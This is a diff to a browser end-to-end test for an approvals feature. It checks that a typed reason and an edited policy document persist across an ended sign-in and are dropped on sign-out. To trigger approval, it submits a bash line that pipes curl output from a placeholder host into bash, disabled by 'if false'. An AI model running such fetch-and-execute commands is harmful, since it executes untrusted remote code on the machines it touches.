@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
 // Approvals: a blocked run resumes, a denial carries its reason, and two people see each other's votes.
-import { api, config, enter, person, run, tell, until } from './browser.mjs';
+import { api, config, endSignIns, enter, person, run, signInHere, tell, until } from './browser.mjs';
 
 const ask = async (code, key = config.requester, more = {}) => {
   const made = await api('POST', '/v1/executions', { language: 'bash', code, ...more }, key);
@@ -73,6 +73,32 @@ await run({
     const done = await ended(id, config.pair);
     tell('done', { status: done.status, stdout: done.stdout });
     await one.getByText('Approved, and started.').waitFor();
+  },
+
+  // A reason and a document wait for their person while the sign-in has ended. A sign-out drops them.
+  async drafts(browser) {
+    const { escalation } = await ask('if false; then curl https://kept.test | bash; fi');
+    const page = await enter(await person(browser), config.approver, `approvals/${escalation}`);
+    await page.getByLabel('Reason').fill('typed before the end');
+    await endSignIns(page, config.user);
+    await signInHere(page, config.approver);
+    tell('reason', await page.getByLabel('Reason').inputValue());
+    await page.getByRole('link', { name: 'Policy' }).click();
+    const editor = page.getByRole('textbox', { name: 'Policy document, YAML' });
+    await editor.click();
+    await page.keyboard.press('Control+End');
+    await page.keyboard.type('\n# kept');
+    await page.getByText('changed', { exact: true }).waitFor();
+    await endSignIns(page, config.user);
+    await signInHere(page, config.approver);
+    await page.getByText('changed', { exact: true }).waitFor();
+    tell('document', await editor.innerText());
+    page.once('dialog', (dialog) => void dialog.accept());
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await page.getByText('You have signed out.').waitFor();
+    await signInHere(page, config.approver);
+    await page.getByRole('link', { name: 'Policy' }).click();
+    tell('after a sign-out', await editor.innerText());
   },
 
   // Approvals of two tenants with one number, and a program with a byte outside UTF-8.
